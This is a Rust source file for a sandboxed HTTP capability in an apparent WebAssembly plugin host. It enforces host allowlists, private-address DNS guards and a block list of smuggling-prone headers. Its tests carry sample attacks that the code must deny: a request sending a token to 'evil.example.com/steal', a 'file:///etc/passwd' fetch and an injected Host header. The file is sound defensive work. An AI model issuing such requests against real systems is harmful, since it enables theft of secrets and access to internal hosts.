//! The `http` import: outbound requests on reqwest (rustls), only to `allowedHosts`.
//!
//! Enforced here and nowhere else: the allowlist on the first URL and on every redirect hop,
//! DNS answers (a wildcard entry never reaches a private address), `Host` and the framing
//! headers (set by the host only), the response size cap and the call's deadline. [`HttpCtx`] is what one connector was granted; [`HttpCtxView`] borrows
//! it with the call's budget, and is what the import is implemented on.

use std::error::Error as _;
use std::net::SocketAddr;
use std::sync::Arc;

use reqwest::dns::{Addrs, Name, Resolve, Resolving};
use url::Url;

use wasmtime::component::{HasData, Linker};

use super::allowlist::{Allowlist, is_private};
use super::budget::CallBudget;
use crate::connectors::bindings::HostError;
use crate::connectors::bindings::current::http::{self as wit, Host, Request, Response};
use crate::connectors::bindings::v0_1::portcullis::connector as v0_1;
use crate::connectors::bindings::v0_2::portcullis::connector as v0_2;

/// Redirect hops followed at most.
const MAX_REDIRECTS: usize = 5;

/// Headers the host sets itself: `Host` from the URL (a plugin naming another virtual host
/// behind an allowed front end would reach what the allowlist does not grant), the framing
/// ones from the body (a plugin setting them could smuggle a second request), and the
/// hop-by-hop ones.
const HOST_SET_HEADERS: &[&str] = &[
    "host",
    "content-length",
    "transfer-encoding",
    "connection",
    "keep-alive",
    "upgrade",
    "te",
    "trailer",
    "proxy-connection",
];

/// A redirect to a host outside the allowlist.
#[derive(Debug, thiserror::Error)]
#[error("redirect to {url} is not allowed")]
struct RedirectDenied {
    url: Url,
}

/// A DNS answer that only holds addresses the entry may not reach.
#[derive(Debug, thiserror::Error)]
#[error("{host} resolves only to private or loopback addresses, which a wildcard entry does not grant")]
struct PrivateAddress {
    host: String,
}

/// DNS that refuses private answers unless the operator named the host exactly.
struct GuardedResolver {
    allowlist: Arc<Allowlist>,
}

impl Resolve for GuardedResolver {
    fn resolve(&self, name: Name) -> Resolving {
        let allow_private = self.allowlist.allows_private(name.as_str());
        let host = name.as_str().to_string();
        Box::pin(async move {
            let found = tokio::net::lookup_host((host.as_str(), 0)).await?;
            let addrs: Vec<SocketAddr> = found.filter(|a| allow_private || !is_private(a.ip())).collect();
            if addrs.is_empty() {
                return Err(Box::new(PrivateAddress { host }) as Box<dyn std::error::Error + Send + Sync>);
            }
            Ok(Box::new(addrs.into_iter()) as Addrs)
        })
    }
}

/// What one connector may do over HTTP: its allowlist, the client built to enforce it, and the
/// response size cap.
#[derive(Debug)]
pub(crate) struct HttpCtx {
    allowlist: Arc<Allowlist>,
    client: reqwest::Client,
    max_response_bytes: u64,
}

impl HttpCtx {
    /// HTTPS trusts the built-in roots and `root_cas` (DER), the connector's `rootCAs`.
    pub(crate) fn with_root_cas(
        allowlist: Arc<Allowlist>,
        max_response_bytes: u64,
        root_cas: &[Vec<u8>],
    ) -> Result<Self, reqwest::Error> {
        Ok(Self { client: client(allowlist.clone(), root_cas)?, allowlist, max_response_bytes })
    }
}

/// The `http` import's view of a call: the connector's grant and the call's budget.
pub(crate) struct HttpCtxView<'a> {
    pub(crate) ctx: &'a HttpCtx,
    pub(crate) budget: &'a mut CallBudget,
}

/// A store whose data can lend an [`HttpCtxView`].
pub(crate) trait HttpView: Send {
    fn http(&mut self) -> HttpCtxView<'_>;
}

struct HasHttp;

impl HasData for HasHttp {
    type Data<'a> = HttpCtxView<'a>;
}

/// Links the `http` import of every supported contract version.
pub(crate) fn add_to_linker<T: HttpView + 'static>(linker: &mut Linker<T>) -> wasmtime::Result<()> {
    wit::add_to_linker::<T, HasHttp>(linker, T::http)?;
    v0_1::http::add_to_linker::<T, HasHttp>(linker, T::http)?;
    v0_2::http::add_to_linker::<T, HasHttp>(linker, T::http)
}

/// The connector's HTTP client: allowlisted redirects, guarded DNS, no proxies, no cookies;
/// certificates always verified, against the built-in roots and `root_cas`.
fn client(allowlist: Arc<Allowlist>, root_cas: &[Vec<u8>]) -> Result<reqwest::Client, reqwest::Error> {
    let for_redirects = allowlist.clone();
    let policy = reqwest::redirect::Policy::custom(move |attempt| {
        if attempt.previous().len() >= MAX_REDIRECTS {
            attempt.error(format!("more than {MAX_REDIRECTS} redirects"))
        } else if for_redirects.check(attempt.url()).is_some() {
            attempt.follow()
        } else {
            let url = attempt.url().clone();
            attempt.error(RedirectDenied { url })
        }
    });
    let mut builder = reqwest::Client::builder();
    for der in root_cas {
        builder = builder.add_root_certificate(reqwest::Certificate::from_der(der)?);
    }
    builder
        .redirect(policy)
        .dns_resolver(Arc::new(GuardedResolver { allowlist }))
        .no_proxy()
        .user_agent(concat!("portcullis/", env!("CARGO_PKG_VERSION")))
        .build()
}

fn find<E: std::error::Error + 'static>(err: &reqwest::Error) -> Option<&E> {
    let mut source = err.source();
    while let Some(e) = source {
        if let Some(found) = e.downcast_ref::<E>() {
            return Some(found);
        }
        source = e.source();
    }
    None
}

impl HttpCtxView<'_> {
    /// Sends one request under this connector's grants; shared by `http` and `jose`.
    pub(crate) async fn send_request(&mut self, req: Request) -> Result<Response, HostError> {
        self.budget.charge("http")?;
        let url = Url::parse(&req.url).map_err(|e| HostError::Invalid(format!("bad URL {:?}: {e}", req.url)))?;
        if !matches!(url.scheme(), "http" | "https") {
            return Err(HostError::Invalid(format!("{url}: only http and https URLs can be fetched")));
        }
        if self.ctx.allowlist.check(&url).is_none() {
            return Err(self.budget.deny(&format!("HTTP request to {}", origin(&url)), &Allowlist::suggestion(&url)));
        }
        let method = reqwest::Method::from_bytes(req.method.as_bytes())
            .map_err(|_| HostError::Invalid(format!("bad HTTP method {:?}", req.method)))?;
        if let Some((name, _)) =
            req.headers.iter().find(|(n, _)| HOST_SET_HEADERS.contains(&n.to_ascii_lowercase().as_str()))
        {
            return Err(HostError::Invalid(format!(
                "header {:?} is set by the host (from the URL and the body); remove it from the request",
                name.to_ascii_lowercase()
            )));
        }
        let mut builder = self.ctx.client.request(method, url.clone()).timeout(self.budget.remaining());
        for (name, value) in &req.headers {
            builder = builder.header(name.as_str(), value.as_str());
        }
        if let Some(body) = req.body {
            builder = builder.body(body);
        }
        let response = match builder.send().await {
            Ok(r) => r,
            Err(e) => return Err(self.transport_error(&url, &e)),
        };
        let status = response.status().as_u16();
        let headers = response
            .headers()
            .iter()
            .map(|(k, v)| (k.as_str().to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned()))
            .collect();
        let cap = self.ctx.max_response_bytes;
        if response.content_length().is_some_and(|len| len > cap) {
            return Err(too_large(&url, cap));
        }
        let mut body = Vec::new();
        let mut response = response;
        loop {
            match response.chunk().await {
                Ok(Some(chunk)) => {
                    if body.len() as u64 + chunk.len() as u64 > cap {
                        return Err(too_large(&url, cap));
                    }
                    body.extend_from_slice(&chunk);
                }
                Ok(None) => break,
                Err(e) => return Err(self.transport_error(&url, &e)),
            }
        }
        Ok(Response { status, headers, body })
    }

    fn transport_error(&self, url: &Url, err: &reqwest::Error) -> HostError {
        if let Some(denied) = find::<RedirectDenied>(err) {
            return self.budget.deny(
                &format!("redirect from {} to {}", origin(url), origin(&denied.url)),
                &Allowlist::suggestion(&denied.url),
            );
        }
        if let Some(private) = find::<PrivateAddress>(err) {
            let line = Allowlist::suggestion(url);
            return self.budget.deny(&format!("HTTP request to {} ({private})", origin(url)), &line);
        }
        if err.is_timeout() {
            return HostError::Timeout(format!("{}: no answer before the call's deadline", origin(url)));
        }
        let mut text = err.to_string();
        let mut source = err.source();
        while let Some(s) = source {
            text = format!("{text}: {s}");
            source = s.source();
        }
        HostError::Failed(format!("{}: {text}", origin(url)))
    }
}

fn too_large(url: &Url, cap: u64) -> HostError {
    HostError::TooLarge(format!("response from {} is larger than limits.maxResponseBytes ({cap} bytes)", origin(url)))
}

/// `scheme://host:port` — never the path or query, which may carry secrets.
pub(crate) fn origin(url: &Url) -> String {
    let host = url.host_str().unwrap_or("");
    match url.port_or_known_default() {
        Some(port) => format!("{}://{host}:{port}", url.scheme()),
        None => format!("{}://{host}", url.scheme()),
    }
}

impl Host for HttpCtxView<'_> {
    async fn send(&mut self, req: Request) -> wasmtime::Result<Result<Response, HostError>> {
        Ok(self.send_request(req).await)
    }
}

/// Older contracts' `http`: the same import in their records (`bindings::convert`).
macro_rules! older_http {
    ($v:ident) => {
        impl $v::http::Host for HttpCtxView<'_> {
            async fn send(
                &mut self,
                req: $v::http::Request,
            ) -> wasmtime::Result<Result<$v::http::Response, $v::types::HostError>> {
                Ok(self.send_request(req.into()).await.map(Into::into).map_err(Into::into))
            }
        }
    };
}
older_http!(v0_1);
older_http!(v0_2);

#[cfg(test)]
pub(crate) mod tests {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    use super::*;
    use crate::connectors::capabilities::budget::CallProbe;
    use crate::connectors::limits::Limits;

    /// A grant for `allowed_hosts` and a budget of `max_host_calls`, as a call would hold them.
    pub(crate) fn granted(allowed_hosts: &[&str], max_host_calls: u32) -> (HttpCtx, CallBudget, Arc<CallProbe>) {
        let entries: Vec<String> = allowed_hosts.iter().map(|h| h.to_string()).collect();
        let allowlist = Arc::new(Allowlist::parse(&entries).unwrap());
        let probe = Arc::new(CallProbe::default());
        let limits = Limits { max_host_calls, ..Limits::default() };
        let ctx = HttpCtx::with_root_cas(allowlist, 16, &[]).unwrap();
        (ctx, CallBudget::new("test".into(), &limits, probe.clone()), probe)
    }

    fn get(url: &str) -> Request {
        Request { method: "GET".into(), url: url.into(), headers: Vec::new(), body: None }
    }

    /// A one-request HTTP server on loopback answering `body` with status 200.
    async fn serve_once(body: &'static str) -> String {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            let (mut socket, _) = listener.accept().await.unwrap();
            let mut buf = [0u8; 4096];
            let _ = socket.read(&mut buf).await;
            let answer =
                format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
            socket.write_all(answer.as_bytes()).await.unwrap();
        });
        format!("http://{addr}")
    }

    #[tokio::test]
    async fn an_allowed_host_is_fetched_and_the_size_cap_holds() {
        let origin = serve_once("hello").await;
        let (ctx, mut budget, _) = granted(&[&origin], 8);
        let mut view = HttpCtxView { ctx: &ctx, budget: &mut budget };
        let response = view.send(get(&format!("{origin}/x"))).await.unwrap().unwrap();
        assert_eq!((response.status, response.body.as_slice()), (200, b"hello".as_slice()));

        let origin = serve_once("more than sixteen bytes").await;
        let (ctx, mut budget, _) = granted(&[&origin], 8);
        let mut view = HttpCtxView { ctx: &ctx, budget: &mut budget };
        let err = view.send(get(&origin)).await.unwrap().unwrap_err();
        assert!(matches!(&err, HostError::TooLarge(m) if m.contains("limits.maxResponseBytes (16 bytes)")), "{err:?}");
    }

    #[tokio::test]
    async fn a_host_not_granted_is_denied_with_the_line_to_add() {
        let (ctx, mut budget, probe) = granted(&["api.github.com"], 8);
        let mut view = HttpCtxView { ctx: &ctx, budget: &mut budget };
        let err = view.send(get("https://evil.example.com/steal?token=s")).await.unwrap().unwrap_err();
        let HostError::Denied(message) = err else { panic!("{err:?}") };
        assert!(message.contains("add \"evil.example.com\" to allowedHosts"), "{message}");
        assert!(!message.contains("token"), "no path or query in the message: {message}");
        assert_eq!(probe.denial().as_deref(), Some(message.as_str()));

        let err = view.send(get("file:///etc/passwd")).await.unwrap().unwrap_err();
        assert!(matches!(err, HostError::Invalid(_)), "{err:?}");
    }

    /// A plugin granted one front end cannot name another virtual host behind it (`Host`), nor
    /// frame the request itself (`Content-Length`, `Transfer-Encoding`, `Connection`, ...): the
    /// host sets those from the URL and the body.
    #[tokio::test]
    async fn a_plugin_cannot_set_host_or_framing_headers() {
        for name in ["Host", "content-length", "Transfer-Encoding", "connection", "upgrade", "te", "trailer"] {
            let origin = serve_once("hello").await;
            let (ctx, mut budget, _) = granted(&[&origin], 8);
            let mut view = HttpCtxView { ctx: &ctx, budget: &mut budget };
            let mut req = get(&format!("{origin}/x"));
            req.headers.push((name.into(), "internal-admin.example.com".into()));
            let err = view.send(req).await.unwrap().unwrap_err();
            assert!(
                matches!(&err, HostError::Invalid(m) if m.contains(&format!("{:?}", name.to_ascii_lowercase()))),
                "{name}: {err:?}"
            );
        }
    }

    #[tokio::test]
    async fn the_host_call_budget_is_charged() {
        let (ctx, mut budget, probe) = granted(&[], 1);
        let mut view = HttpCtxView { ctx: &ctx, budget: &mut budget };
        let _ = view.send(get("https://a.example.com/")).await.unwrap();
        let err = view.send(get("https://a.example.com/")).await.unwrap().unwrap_err();
        assert!(matches!(err, HostError::LimitExceeded(_)), "{err:?}");
        assert!(probe.hit_host_call_limit());
    }
}
